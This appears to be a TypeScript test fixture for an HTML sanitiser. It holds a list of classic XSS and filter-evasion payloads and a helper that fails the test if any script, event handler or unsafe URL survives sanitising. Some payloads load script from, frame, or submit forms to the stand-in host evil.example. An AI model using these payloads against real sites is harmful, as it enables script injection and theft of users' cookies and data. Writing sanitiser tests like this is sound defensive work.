import { parseDocument } from 'htmlparser2';
import { expect } from 'vitest';

/**
 * Hostile HTML for the sanitiser tests: classic OWASP filter-evasion vectors, event handlers,
 * URL schemes, style injection, SVG/MathML tricks and parser confusions.
 */
export const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script>document.cookie</script><p>after</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="jav&#x61;script:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<a href="https://ok.example" onmouseover=alert(1)>ok</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="x"><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">x</td>',
  '<div id="x" class="evil" data-x="y">attrs</div>',
  '<img src="https://ok.example/a.png" alt="ok" style="x:y" onload="alert(1)">',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="//evil.example">protocol relative</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<button formaction="javascript:alert(1)">x</button>',
  '<x onclick=alert(1)>custom</x>',
  '<code class="language-js" onclick="alert(1)">code</code>',
];

/** Fails with the offending node when HTML could run script, load styles or navigate to script URLs. */
export function expectInert(html: string) {
  expect(html).not.toMatch(/<\s*(script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base)\b/i);
  const walk = (
    nodes: Array<{ type: string; name?: string; attribs?: Record<string, string>; children?: unknown[] }>,
  ) => {
    for (const node of nodes) {
      if (node.type !== 'tag' && node.type !== 'script' && node.type !== 'style') continue;
      expect(['script', 'style']).not.toContain(node.name);
      for (const [name, value] of Object.entries(node.attribs ?? {})) {
        expect(name, `${node.name} ${name}`).not.toMatch(/^on/i);
        expect(name).not.toBe('style');
        expect(name).not.toBe('srcdoc');
        if (['href', 'src', 'action', 'formaction', 'background', 'xlink:href'].includes(name)) {
          // eslint-disable-next-line no-control-regex
          const normalised = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
          expect(normalised, `${node.name} ${name}=${value}`).toMatch(
            /^(https?:\/\/[^/]|mailto:|\/[^/]|#|[a-z0-9._-]+(\/|$)|$)/,
          );
        }
      }
      walk((node.children ?? []) as never);
    }
  };
  walk(parseDocument(html).children as never);
}
